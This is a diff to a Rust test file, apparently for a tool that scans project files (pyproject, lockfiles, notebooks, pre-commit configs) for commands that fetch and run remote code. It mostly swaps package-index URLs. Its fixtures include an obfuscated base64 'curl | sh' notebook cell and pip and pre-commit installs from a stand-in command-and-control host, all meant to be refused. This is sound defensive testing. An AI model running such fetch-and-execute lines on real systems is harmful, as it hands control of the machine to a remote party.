@@ -99,7 +99,7 @@ fn projects_are_judged() {
         ),
         (
             "pyproject.toml",
-            "[project]\nname = 'a'\ndependencies = ['torch>=2', 'b @ git+https://github.com/a/b']\n[project.urls]\nHomepage = 'http://www.a.org'\n[tool.poetry]\nhomepage = 'http://www.a.org'\n[tool.poe.tasks]\ntest = 'pytest'\nclean = { shell = 'rm -rf build dist' }\n[[tool.uv.index]]\nurl = 'https://download.pytorch.org/whl/cu124'\n",
+            "[project]\nname = 'a'\ndependencies = ['torch>=2', 'b @ git+https://github.com/a/b']\n[project.urls]\nHomepage = 'http://www.a.org'\n[tool.poetry]\nhomepage = 'http://www.a.org'\n[tool.poe.tasks]\ntest = 'pytest'\nclean = { shell = 'rm -rf build dist' }\n[[tool.uv.index]]\nurl = 'https://wheels.example.org/whl/cu124'\n",
         ),
         (
             "Pipfile",
@@ -171,7 +171,7 @@ fn commands_are_found_in_whatever_tool_runs_them() {
         ),
         (
             "poetry.lock",
-            "[[package]]\nname = \"a\"\n[package.source]\nurl = \"https://download.pytorch.org/whl/cu121\"\n",
+            "[[package]]\nname = \"a\"\n[package.source]\nurl = \"https://wheels.example.org/whl/cu121\"\n",
         ),
         ("nginx.conf", "server { location / { proxy_pass http://127.0.0.1:8000; } }\n"),
         (".pylintrc", "[MASTER]\ninit-hook='import sys; sys.path.append(\".\")'\n"),
@@ -303,7 +303,7 @@ fn what_is_fetched_and_started_later_is_followed() {
     let decoded = notebook(
         "c = __import__('base64').b64decode('Y3VybCBodHRwOi8veC5pbnZhbGlkL2EgfCBzaA==').decode()\n!{c}\n",
     );
-    let installed = notebook("%pip install http://c2.x.invalid/a.whl\n");
+    let installed = notebook("%pip install -i http://c2.x.invalid/ a\n");
     told::all_refused(&[
         ("a.ipynb", decoded.as_str()),
         ("a.ipynb", installed.as_str()),
@@ -333,7 +333,7 @@ fn what_is_fetched_and_started_later_is_followed() {
         (".pre-commit-config.yaml", "repos:\n- repo: http://c2.x.invalid/hooks\n  rev: v1\n"),
     ]);
     let usual = notebook(
-        "!pip install http://download.pytorch.org/whl/cu80/torch-0.3.0-cp36-cp36m-linux_x86_64.whl\n",
+        "!pip install http://wheels.example.org/whl/cu80/torch-0.3.0-cp36-cp36m-linux_x86_64.whl\n",
     );
     told::none_refused(&[
         ("a.ipynb", usual.as_str()),
